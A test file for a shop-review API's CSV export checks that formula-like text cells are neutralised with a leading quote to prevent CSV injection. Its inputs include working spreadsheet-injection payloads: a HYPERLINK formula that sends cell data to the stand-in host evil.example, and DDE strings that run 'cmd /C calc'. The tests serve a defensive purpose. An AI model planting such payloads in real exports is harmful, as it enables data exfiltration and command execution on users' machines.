// CSV exports never hand a spreadsheet a formula: a text cell that begins with = + - @, a tab or a carriage
// return gets a leading ' (OWASP's CSV-injection advice); numbers stay numbers; everything else is unchanged.
// GET /api/flagged's CSV is DESIGN §4's fields as they always were; the shared queue's (GET /api/queue, the queue's
// "Export CSV") adds each shop's place in the queue: review state, assignee, the day it entered the queue, its age
// in days, past the service time. Expected outputs are written out by hand.
import request from 'supertest';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Express } from 'express';
import { createApp } from '../server/api/app.js';
import { escapeCsvText, flaggedCsv, queueCsv } from '../server/api/csv.js';
import { signToken } from '../server/auth/tokens.js';
import type { Review } from '../server/contracts/governance.js';
import type { ShopMetrics } from '../server/contracts/metrics.js';
import type { Database } from '../server/db/database.js';
import { HEADERS, ingest, writeCsv } from './helpers.js';
import { SECRET, buildSmallWorld, makeTokens } from './fixtures/small-world.js';

const HEADER =
  'shop_id,shop_name,category_id,date,window_from,orders,interventions,complaints,rate,category_mean,ratio,judged,flagged,level,consecutive_flagged_days,restrictions,policy_version';

/** A row of the flagged list with only what the CSV writes; each test overrides the text it is about. */
function row(over: Partial<ShopMetrics>): ShopMetrics {
  return {
    shopId: 'A',
    shopName: 'A店',
    categoryId: 'C1',
    date: '2026-10-08',
    window: { from: '2026-09-09', to: '2026-10-08' },
    orders: 60,
    interventions: 3,
    complaints: 1,
    rate: 0.05,
    categoryMean: 0.01,
    ratio: 5,
    judged: true,
    flagged: true,
    level: 'restricted',
    consecutiveFlaggedDays: 9,
    restrictions: [
      { code: 'remove_resource_slots', since: '2026-10-06' },
      { code: 'ban_resource_slots', since: '2026-10-06' },
    ],
    policyVersion: 'default-1',
    ...over,
  };
}

describe('escapeCsvText', () => {
  it('prefixes a quote to text that begins with = + - @ tab or CR, and leaves every other text alone', () => {
    expect(escapeCsvText('=1+1')).toBe("'=1+1");
    expect(escapeCsvText('+86 138')).toBe("'+86 138");
    expect(escapeCsvText('-2+3')).toBe("'-2+3");
    expect(escapeCsvText('@SUM(A1:A9)')).toBe("'@SUM(A1:A9)");
    expect(escapeCsvText('\t=1+1')).toBe("'\t=1+1");
    expect(escapeCsvText('\r=1+1')).toBe("'\r=1+1");
    // Not at the start, or not one of the six: unchanged.
    expect(escapeCsvText('a=b')).toBe('a=b');
    expect(escapeCsvText(' =1')).toBe(' =1');
    expect(escapeCsvText('1-2')).toBe('1-2');
    expect(escapeCsvText('女装·旗舰店')).toBe('女装·旗舰店');
    expect(escapeCsvText("'already")).toBe("'already");
    expect(escapeCsvText('')).toBe('');
  });
});

describe('flaggedCsv', () => {
  it('escapes formula-like text in every text column (id, name, category, policy) and leaves numbers as numbers, written out by hand', () => {
    const csv = flaggedCsv([
      row({ shopName: '=HYPERLINK("http://evil.example/?q="&A1,"click")' }),
      row({
        shopId: '+B',
        shopName: '-1+2',
        categoryId: '@C2',
        orders: 0,
        interventions: 0,
        complaints: 0,
        rate: null,
        categoryMean: 0,
        ratio: null,
        judged: false,
        flagged: false,
        level: 'warning',
        consecutiveFlaggedDays: 0,
        restrictions: [],
        policyVersion: '=v2',
      }),
      row({ shopId: 'D', shopName: '\tcmd|/C calc', categoryId: 'C1' }),
      row({ shopId: 'E', shopName: '\r=1+1' }),
      row({ shopId: 'F', shopName: 'A店 = 好店, "真的"', restrictions: [] }),
      row({
        shopId: 'G',
        shopName: 'G店',
        orders: 1500,
        interventions: 0,
        complaints: 12,
        rate: 0,
        categoryMean: 0.0037,
        ratio: 13.5,
        consecutiveFlaggedDays: 14,
        restrictions: [],
      }),
    ]);
    expect(csv).toBe(
      '\ufeff' +
        `${HEADER}\n` +
        `A,"'=HYPERLINK(""http://evil.example/?q=""&A1,""click"")",C1,2026-10-08,2026-09-09,60,3,1,0.05,0.01,5,1,1,restricted,9,remove_resource_slots@2026-10-06 ban_resource_slots@2026-10-06,default-1\n` +
        `'+B,'-1+2,'@C2,2026-10-08,2026-09-09,0,0,0,,0,,,,warning,0,,'=v2\n` +
        `D,'\tcmd|/C calc,C1,2026-10-08,2026-09-09,60,3,1,0.05,0.01,5,1,1,restricted,9,remove_resource_slots@2026-10-06 ban_resource_slots@2026-10-06,default-1\n` +
        `E,"'\r=1+1",C1,2026-10-08,2026-09-09,60,3,1,0.05,0.01,5,1,1,restricted,9,remove_resource_slots@2026-10-06 ban_resource_slots@2026-10-06,default-1\n` +
        `F,"A店 = 好店, ""真的""",C1,2026-10-08,2026-09-09,60,3,1,0.05,0.01,5,1,1,restricted,9,,default-1\n` +
        // Numbers stay numbers: never quoted, never prefixed.
        `G,G店,C1,2026-10-08,2026-09-09,1500,0,12,0,0.0037,13.5,1,1,restricted,14,,default-1\n`,
    );
  });
});

const QUEUE_HEADER = `${HEADER},review_state,assignee,entered_on,age_days,past_service`;

/** A queued shop nobody has taken, in the queue since 09-30: 8 days on 10-08, past the 3-day service time. */
const NEW_REVIEW: Review = {
  state: 'new',
  assignee: null,
  claimedAt: null,
  decidedBy: null,
  decidedAt: null,
  enteredOn: '2026-09-30',
  ageDays: 8,
  pastService: true,
};

describe('queueCsv', () => {
  it("adds each shop's review after DESIGN §4's fields: state, assignee (escaped like any text), entered on, age, past service", () => {
    const csv = queueCsv([
      { ...row({}), review: NEW_REVIEW },
      {
        ...row({ shopId: 'B', shopName: 'B店', level: 'warning', restrictions: [] }),
        // Assigned by name to someone whose name a spreadsheet would run.
        review: {
          ...NEW_REVIEW,
          state: 'in_review',
          assignee: '@zhou',
          claimedAt: '2026-10-08T02:00:00Z',
          enteredOn: '2026-10-07',
          ageDays: 1,
          pastService: false,
        },
      },
      {
        ...row({ shopId: 'G', shopName: 'G店' }),
        // Decided: the assignee (who worked it) stays; never past the service time.
        review: {
          ...NEW_REVIEW,
          state: 'decided',
          assignee: 'li@example.com',
          claimedAt: '2026-10-01T02:00:00Z',
          decidedBy: 'li@example.com',
          decidedAt: '2026-10-02T02:00:00Z',
          pastService: false,
        },
      },
    ]);
    const restrictions = 'remove_resource_slots@2026-10-06 ban_resource_slots@2026-10-06';
    expect(csv).toBe(
      '\ufeff' +
        `${QUEUE_HEADER}\n` +
        `A,A店,C1,2026-10-08,2026-09-09,60,3,1,0.05,0.01,5,1,1,restricted,9,${restrictions},default-1,new,,2026-09-30,8,1\n` +
        `B,B店,C1,2026-10-08,2026-09-09,60,3,1,0.05,0.01,5,1,1,warning,9,,default-1,in_review,'@zhou,2026-10-07,1,\n` +
        `G,G店,C1,2026-10-08,2026-09-09,60,3,1,0.05,0.01,5,1,1,restricted,9,${restrictions},default-1,decided,li@example.com,2026-09-30,8,\n`,
    );
    // GET /api/flagged's CSV is unchanged by the review: no review columns, whatever the items carry.
    expect(flaggedCsv([{ ...row({}), review: NEW_REVIEW } as ShopMetrics]).split('\n')[0]).toBe(`\ufeff${HEADER}`);
  });
});

describe('GET /api/flagged?format=csv', () => {
  let db: Database;
  let app: Express;
  let reviewer: string;

  beforeAll(async () => {
    const world = await buildSmallWorld();
    db = world.db;
    // The two restricted shops of the small world renamed by their sellers to formulas.
    writeCsv(world.dir, 'shops.csv', HEADERS.shops, [
      ['A', '=HYPERLINK("http://evil.example","点我")', 'C1'],
      ['B', 'B店', 'C1'],
      ['C', "@SUM(1+1)*cmd|' /C calc'!A0", 'C1'],
    ]);
    expect((await ingest(db, [`${world.dir}/shops.csv`])).exitCode).toBe(0);
    app = createApp({ db, secret: SECRET, authFailuresPerMinute: 1e6 });
    reviewer = (await makeTokens()).reviewer;
  });
  afterAll(async () => db?.close());

  it('downloads the names with a leading quote', async () => {
    const res = await request(app).get('/api/flagged?format=csv&date=2026-10-08').set('Authorization', `Bearer ${reviewer}`);
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toMatch(/^text\/csv/);
    const lines = res.text
      .replace(/^\ufeff/, '')
      .trimEnd()
      .split('\n');
    expect(lines[0]).toBe(HEADER);
    const byShop = new Map(lines.slice(1).map((line) => [line.split(',')[0], line]));
    expect([...byShop.keys()].sort()).toEqual(['A', 'C']);
    expect(byShop.get('A')!.startsWith(`A,"'=HYPERLINK(""http://evil.example"",""点我"")",C1,2026-10-08,2026-09-09,60,3,0,`)).toBe(true);
    expect(byShop.get('C')!.startsWith(`C,'@SUM(1+1)*cmd|' /C calc'!A0,C1,2026-10-08,2026-09-09,60,3,0,`)).toBe(true);
  });

  it("the shared queue's CSV (GET /api/queue?format=csv) carries each shop's review: Li's claim of A, C assigned to a name a spreadsheet would run", async () => {
    const li = await signToken(SECRET, { role: 'reviewer', subject: 'li@example.com' });
    await request(app).post('/api/shops/A/review').set('Authorization', `Bearer ${li}`).send({ action: 'claim' }).expect(200);
    await request(app).post('/api/shops/C/review').set('Authorization', `Bearer ${li}`).send({ action: 'assign', assignee: '=wang' }).expect(200);
    // A and C entered the queue on 09-30 (their first complete window), restricted since 10-06: on 10-08 each
    // has waited 8 days, past the 3-day service time. K = 3 of N = 60 (rate 0.05); the category's mean is
    // 6 / 1620 (B's 50 a day, no cases); ratio 13.5. Equal ratios: A before C.
    const res = await request(app).get('/api/queue?format=csv').set('Authorization', `Bearer ${li}`);
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toMatch(/^text\/csv/);
    const restrictions = 'remove_resource_slots@2026-10-06 ban_resource_slots@2026-10-06';
    const policy = '2026.11-default';
    expect(res.text).toBe(
      '\ufeff' +
        `${QUEUE_HEADER}\n` +
        `A,"'=HYPERLINK(""http://evil.example"",""点我"")",C1,2026-10-08,2026-09-09,60,3,0,0.05,0.003703703703703704,13.5,1,1,restricted,9,${restrictions},${policy},in_review,li@example.com,2026-09-30,8,1\n` +
        `C,'@SUM(1+1)*cmd|' /C calc'!A0,C1,2026-10-08,2026-09-09,60,3,0,0.05,0.003703703703703704,13.5,1,1,restricted,9,${restrictions},${policy},in_review,'=wang,2026-09-30,8,1\n`,
    );
    // A past day is queried, not read from memory: the same columns. On 10-02 both are warnings of the same queue
    // entry (since 09-30, which the claims belong to), 2 days in: within the service time.
    const past = await request(app).get('/api/queue?format=csv&date=2026-10-02').set('Authorization', `Bearer ${li}`);
    const lines = past.text
      .replace(/^\ufeff/, '')
      .trimEnd()
      .split('\n');
    expect(lines[0]).toBe(QUEUE_HEADER);
    expect(lines.slice(1).map((l) => [l.split(',')[0], l.split(',').slice(-5).join(',')])).toEqual([
      ['A', 'in_review,li@example.com,2026-09-30,2,'],
      ['C', "in_review,'=wang,2026-09-30,2,"],
    ]);
    // GET /api/flagged's CSV stays DESIGN §4's: its header, no review.
    const flagged = await request(app).get('/api/flagged?format=csv').set('Authorization', `Bearer ${li}`);
    expect(flagged.text.replace(/^\ufeff/, '').split('\n')[0]).toBe(HEADER);
  });
});
